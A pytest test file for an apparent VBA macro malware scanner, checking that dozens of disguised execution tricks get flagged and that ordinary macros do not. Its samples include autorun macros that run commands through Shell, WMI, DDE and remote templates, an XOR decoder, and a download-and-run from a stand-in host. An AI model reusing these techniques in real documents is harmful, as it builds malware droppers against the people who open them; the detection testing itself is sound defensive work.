"""VBA macros: tricks that must be seen however they are spelled, honest code that must not be accused."""

import pytest

from emotriage import Level, Limits, scan
from emotriage.analyzers.vba.names import is_random
from emotriage.testing import document, workbook

FETCH = 'Declare PtrSafe Function F Lib "urlmon" Alias "URLDownloadToFileA" (ByVal u As String) As Long\n'


def _verdict(macros, **more):
    return scan(document(macros=macros, **more), name="sample.doc", plugins=[])


def _rules(macros, **more):
    return {one.rule for one in _verdict(macros, **more).findings}


def _random_names():
    return ["qxzvbk", "wkqjzx", "zzxqwv", "pfkqxz", "jxqvwz", "vkxqzj", "kzqwxj", "xqjvkz", "qzwkxv"]


def _auto(body, head=""):
    return {"Module1": f"{head}Sub AutoOpen()\n{body}\nEnd Sub\n"}


TRICKS = {
    "style-sheet": _auto(
        'Set d = CreateObject("Microsoft.XMLDOM")\nd.Load "http://example.invalid/a.xsl"\nd.transformNode d'
    ),
    "deserializer": _auto(
        'CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter").Deserialize_2 m'
    ),
    "dde": _auto('c = DDEInitiate("cmd", "/c emotriage-inert")'),
    "remote-template": _auto('ActiveDocument.AttachedTemplate = "http://example.invalid/a.dotm"'),
    "remote-document": _auto('Documents.Open Filename:="http://example.invalid/a.dotm"'),
    "excel4-of-cells": _auto("For i = 1 To 9\nExecuteExcel4Macro Sheets(2).Cells(i, 1).Value\nNext"),
    "library-of-its-own": _auto(
        'Open "emotriage-inert.dll" For Binary As #1\nPut #1, , b\nClose #1\nGo',
        'Private Declare PtrSafe Sub Go Lib "emotriage-inert.dll" ()\n',
    ),
    "explorer-starts-a-program": _auto('Shell "explorer.exe C:\\ProgramData\\emotriage-inert.exe"'),
    "function-of-a-library": _auto('VBA.Interaction.Shell "emotriage-inert"'),
    "type-suffix": _auto('x = Shell%("emotriage-inert", 0)'),
    "bracketed": _auto('[Shell] "emotriage-inert", 0'),
    "dollar": _auto('x = Shell$("emotriage-inert")'),
    "called": _auto('Call Shell("emotriage-inert")'),
    "early-bound": _auto('With New WshShell\n .Run "emotriage-inert"\nEnd With'),
    "array-of-calls": _auto('x = Array(1, CreateObject("WScript.Shell").Run("emotriage-inert", 0), 2)'),
    "other-application": _auto(
        'CreateObject("Outlook.Application").CreateObject("WScript.Shell").Run "emotriage-inert"'
    ),
    "shell-application": _auto('CreateObject("Shell.Application").ShellExecute "emotriage-inert"'),
    "by-name": _auto('CallByName CreateObject("WScr" & "ipt.Shell"), "R" & "un", VbMethod, "emotriage-inert"'),
    "moniker": _auto('GetObject("script:http://example.invalid/emotriage-inert").Run'),
    "timer": {
        "ThisDocument": 'Sub Document_Open()\n Application.OnTime Now, "Later"\nEnd Sub\n',
        "Module1": 'Sub Later()\n Shell "emotriage-inert"\nEnd Sub\n',
    },
    "form-initialize": {
        "ThisDocument": "Sub Document_Open()\n Dialog.Show\nEnd Sub\n",
        "Dialog": 'Private Sub UserForm_Initialize()\n Shell "emotriage-inert"\nEnd Sub\n',
    },
    "class-terminate": {
        "ThisDocument": "Sub Document_Close()\n Dim a As New Worker\nEnd Sub\n",
        "Worker": 'Private Sub Class_Terminate()\n Shell "emotriage-inert"\nEnd Sub\n',
    },
    "focus-of-a-control": {
        "ThisDocument": 'Attribute VB_Control = "InkEdit1, 0, 0, INKEDLib, InkEdit"\n'
        'Private Sub InkEdit1_GotFocus()\n Shell "emotriage-inert"\nEnd Sub\n'
    },
    "picture-painted": {
        "ThisDocument": 'Attribute VB_Control = "InkPicture1, 0, 0, MSINKAUTLib, InkPicture"\n'
        'Private Sub InkPicture1_Painted(ByVal h As Long)\n Shell "emotriage-inert"\nEnd Sub\n'
    },
    "decoder": _auto(
        'For i = 1 To Len(t) Step 2\n s = s & Chr(Val("&H" & Mid(t, i, 2)) Xor 7)\nNext\nShell s', 't = "6263"\n'
    ),
    "document-variable": _auto('Shell ActiveDocument.Variables("a").Value'),
    "control-text": {
        "ThisDocument": 'Attribute VB_Control = "Box1, 0, 0, MSForms, TextBox"\n'
        "Sub AutoOpen()\n x = ThisDocument.Box1\n CreateObject(y).Create x, z\nEnd Sub\n"
    },
    "download": _auto('F "http://example.invalid/emotriage-inert.exe"\nShell "emotriage-inert.exe"', FETCH),
    "excel4": _auto('Application.ExecuteExcel4Macro "CALL(""shell32"",""ShellExecuteA"",""J"")"'),
    "joined-names": _auto("Set a = CreateObject(b + c + d)\na.Create e, f, g\nShowWindow = 1"),
    "mixed-case": {"Module1": 'sUB aUTOoPEN()\n sHELL "emotriage-inert"\neND sUB\n'},
    "comspec": _auto('Shell Environ("comspec") & " /c emotriage-inert"'),
    "wmi-services": _auto(
        'Set l = CreateObject("WbemScripting.SWbemLocator")\n'
        'l.ConnectServer().Get("Win32_Process").Create "emotriage-inert"'
    ),
}


@pytest.mark.parametrize("name", TRICKS)
def test_a_trick_is_suspicious(name):
    kinds = {"Dialog": "form", "Worker": "class"}
    verdict = _verdict(TRICKS[name], vba={"kinds": {one: kinds[one] for one in TRICKS[name] if one in kinds}})
    assert verdict.level >= Level.SUSPICIOUS, [one.rule for one in verdict.findings]
    assert all(one.evidence for one in verdict.findings)


HONEST = {
    "shows-a-folder": _auto('Shell "explorer.exe C:\\Reports", vbNormalFocus'),
    "shows-a-text": _auto('Shell "notepad.exe C:\\Reports\\log.txt", 1'),
    "closed-workbook": _auto('x = ExecuteExcel4Macro("\'" & p & "[a.xls]Sheet1\'!" & Range("A1").Address(, , xlR1C1))'),
    "windows-and-memory": _auto(
        "EnumWindows AddressOf Found, 0",
        'Declare PtrSafe Function EnumWindows Lib "user32" (ByVal f As LongPtr) As Long\n'
        'Declare PtrSafe Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" (a As Any)\n'
        'Declare PtrSafe Function GlobalAlloc Lib "kernel32" (ByVal a As Long) As LongPtr\n',
    ),
    "menu": {
        "ThisDocument": 'Sub Document_Open()\n With CommandBars.Add("Billing")\n  .Visible = True\n End With\n'
        ' Application.Run "Refresh"\nEnd Sub\n',
        "Module1": "Sub Refresh()\n ActiveDocument.Fields.Update\nEnd Sub\n",
    },
    "export": {
        "Module1": 'Sub Export()\n Open "list.csv" For Output As #1\n'
        " Print #1, ActiveDocument.Name\n Close #1\nEnd Sub\n"
    },
    "web-service": {
        "Module1": 'Function Rate(code)\n Set r = CreateObject("MSXML2.XMLHTTP")\n'
        ' r.Open "GET", "https://example.invalid/rates?c=" & code, False\n r.send\n'
        " Rate = r.responseText\nEnd Function\n"
    },
    "open-folder": {"Module1": 'Sub OpenFolder()\n Shell "explorer " & ActiveDocument.Path, vbNormalFocus\nEnd Sub\n'},
    "versions": _auto('Set x = CreateObject("Excel.Application." & v)\nSet y = GetObject(, "Excel.Application")'),
    "other-file": _auto('Set w = GetObject(ActiveDocument.Path & "\\budget.xls")'),
    "wrapper": {
        "Module1": "Function Make(name)\n Set Make = CreateObject(name)\nEnd Function\n"
        'Sub AutoOpen()\n Set d = Make("Scripting.Dictionary")\nEnd Sub\n'
    },
    "wmi-query": _auto(
        'Set w = GetObject("winmgmts:\\\\" & computer & "\\root\\cimv2")\n'
        'For Each p In w.ExecQuery("Select * from Win32_Printer")\nNext'
    ),
    "script-host-folders": _auto('f = CreateObject("WScript.Shell").SpecialFolders("Desktop")\nOpen f For Input As #1'),
    "quoting": {
        "Module1": 'Sub Ask()\n q = Chr(34)\n s = "name=" & q & Trim(n) & q\n MsgBox Replace(s, "_", " ")\nEnd Sub\n'
    },
    "sql": _auto(
        'sql = "SELECT customer, balance " & _\n "FROM ledger INNER JOIN customers ON ledger.id = customers.id " & _\n'
        ' "WHERE balance > 0 " & _\n "ORDER BY customer"\nMsgBox sql'
    ),
    "mail": {
        "Module1": 'Sub SendReport()\n Set o = CreateObject("Outlook.Application")\n Set m = o.CreateItem(0)\n'
        " m.To = ActiveDocument.Bookmarks(1).Range.Text\n m.Attachments.Add ActiveDocument.FullName\n m.Send\nEnd Sub\n"
    },
    "sleep": _auto("Sleep 100", 'Private Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal ms As Long)\n'),
    "in-comments": _auto('\' Shell "powershell -w hidden"\nRem CreateObject("WScript.Shell").Run\nBeep'),
    "checksum": {
        "Module1": "Function Crc(t)\n For i = 1 To Len(t)\n  c = (c * 2) Xor Asc(Mid(t, i, 1))\n Next\n"
        " Crc = Hex(c)\nEnd Function\n"
    },
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_code_is_not_accused(name):
    verdict = _verdict(HONEST[name])
    assert verdict.level is Level.CLEAN, [one.rule for one in verdict.findings]


def test_the_same_findings_in_every_container():
    macros = {"Module1": 'Sub Auto_Open()\n Shell StrReverse("treni-egairtome")\nEnd Sub\n'}
    samples = [
        document("doc", macros=macros),
        document("docm", macros=macros),
        workbook("xls", macros=macros),
        workbook("xlsm", macros=macros),
        document("doc", macros=macros, defects=["no-dir"]),
        document("doc", macros=macros, defects=["purged"]),
    ]
    found = [
        {one.rule for one in scan(data, name="sample", plugins=[]).findings if one.family == "vba"}
        - {"vba.damaged", "vba.purged"}
        for data in samples
    ]
    assert found[0] == {"vba.autorun", "vba.execute", "vba.concealed-argument", "vba.would-start"}
    assert all(one == found[0] for one in found)


def test_what_nothing_leads_to_is_less_than_a_guess():
    body = 'Sub Run()\n Shell "emotriage-inert"\nEnd Sub\nSub %s()\n %s\nEnd Sub\n'
    called = _verdict({"Module1": body % ("AutoOpen", "Run")})
    idle = _verdict({"Module1": body % ("AutoOpen", "Beep")})
    assert [one.confidence for one in called.findings if one.rule == "vba.execute"] == [1.0]
    (execute,) = (one for one in idle.findings if one.rule == "vba.execute")
    assert execute.confidence < 0.3
    assert not execute.traits
    assert idle.level is Level.CLEAN


def test_places_are_lines_of_the_source():
    verdict = _verdict({"Module1": '\'\nSub _\n AutoOpen()\n\n  Shell "emotriage-inert"\nEnd Sub\n'})
    places = {one.rule: one.evidence[0].where for one in verdict.findings}
    lead = 1  # the attribute line that Office keeps before the code
    start = f"Module1:{5 + lead}"
    assert places == {"vba.autorun": f"Module1:{2 + lead}", "vba.execute": start, "vba.would-start": start}


def test_addresses_and_commands_are_indicators():
    verdict = _verdict(
        _auto(
            'a = "see http://example.invalid/a.txt, and http://198.51.100.7/b"\n'
            'b = "ht" & "tps://example.invalid/c"\n'
            'c = "http://schemas.microsoft.com/office/word http://www.w3.org/2001/XMLSchema"\n'
            'd = "\\\\files.example.invalid\\share\\emotriage.txt"\n'
            'e = "cmd /c emotriage-inert http://example.invalid/d"\n'
        )
    )
    found = {(one.kind, one.value, one.origin) for one in verdict.indicators}
    assert ("url", "http://example.invalid/a.txt", "literal") in found
    assert ("ip", "198.51.100.7", "literal") in found
    assert ("url", "https://example.invalid/c", "decoded") in found
    assert ("path", "\\\\files.example.invalid\\share\\emotriage.txt", "literal") in found
    assert ("command", "cmd /c emotriage-inert http://example.invalid/d", "literal") in found
    assert not any("microsoft" in value or "w3.org" in value for _, value, _ in found)


@pytest.mark.parametrize(
    "names",
    [
        "lngZeileEnde strSchluesselwort blnGedruckt rngUeberschrift zaehlerRechnung pruefeDatum",
        "calculerTotal feuilleCourante nombreLignes enregistrerFichier cheminDossier",
        "guardarArchivo hojaActual calcularImporte numeroFactura direccionCliente",
        "salvarPlanilha linhaAtual valorTotal endereco preencherRelatorio",
        "nactiDataZeSouboru pocetRadku ulozSesit vypocetCelkem",
        "kingakuGoukei tantousha seikyuusho shiharaiBi jigyousho",
        "rngWorkDay txtCustNo cboGrpTyp hWndMain lpszBuffer dwFlags cbSize wksSrc",
        "column_1 header_2 param10 sheet2Range convertUtf8ToUtf16 sha256 base64Encode",
    ],
)
def test_names_that_people_give_are_not_random(names):
    given = names.split()
    assert sum(map(is_random, given)) <= len(given) // 4


@pytest.mark.parametrize(
    "names", ["jkqwzxv pqxzvkt wvbqzkj", "a7k29x4 q3z81m5 k8_29_51", "ttZqXwKdp HfJqXvbN xkcdQzjw"]
)
def test_names_of_a_generator_are_random(names):
    assert all(map(is_random, names.split()))


def test_the_last_of_many_modules_is_looked_at():
    macros = {f"Step{number}": f"Sub Go{number}()\n Go{number + 1}\nEnd Sub\n" for number in range(600)}
    macros["ThisDocument"] = "Sub Document_Open()\n Go0\nEnd Sub\n"
    macros["Last"] = 'Sub Go600()\n Shell "emotriage-inert"\nEnd Sub\n'
    verdict = _verdict(macros)
    assert "vba.execute" in {one.rule for one in verdict.findings}
    assert [one.evidence[0].where for one in verdict.findings if one.rule == "vba.execute"] == ["Last:3"]


JUNK = "".join(f"zqx{n}kwv = 7\nIf pfw{n}xzt Then Beep\n" for n in range(30))


@pytest.mark.parametrize(
    ("rule", "body"),
    [
        ("vba.junk-code", JUNK),
        ("vba.junk-code", "x = Sin(1) + Cos(2) + Tan(3) + Atn(4)\n" * 5),
        ("vba.random-names", "".join(f"Dim {name}\n" for name in _random_names())),
    ],
)
def test_what_is_measured_has_a_place(rule, body):
    verdict = _verdict({"First": "' nothing\n", "Worst": f"Sub AutoOpen()\nBeep\n{body}End Sub\n"})
    (found,) = (one for one in verdict.findings if one.rule == rule)
    assert [one.where for one in found.evidence] == ["Worst:4"]


def test_code_behind_a_megabyte_of_comments_is_looked_at():
    comments = "' a line of filler that goes on for a while and says nothing\n" * 16_000
    assert {"vba.autorun", "vba.execute"} <= _rules({"Module1": comments + 'Sub AutoOpen()\n Shell "x"\nEnd Sub\n'})


@pytest.mark.parametrize(
    "unit",
    [
        "CreateObject(a + b)\n",
        "Shell a\n",
        'x = "a" & Chr(1)\n',
        'Declare Sub a Lib "b" ()\n',
        "Type a\n",
        "open ",
        "[ ",
        "x=1:",
    ],
)
def test_hostile_code_costs_what_it_is_long(unit):
    verdict = scan(
        document(macros={"Module1": "Sub AutoOpen()\n" + unit * (200_000 // len(unit)) + "\nEnd Sub\n"}),
        name="sample.doc",
        plugins=[],
        limits=Limits(work=1 << 30),
    )
    assert verdict.complete


def test_a_process_that_wmi_starts_by_itself_is_malicious():
    body = 'GetObject("winmgmts:").Get("Win32_Process").{} "emotriage-inert"'
    assert _verdict(_auto(body.format("Create"))).level is Level.MALICIOUS
    assert _verdict(_auto(body.format("Name"))).level < Level.SUSPICIOUS
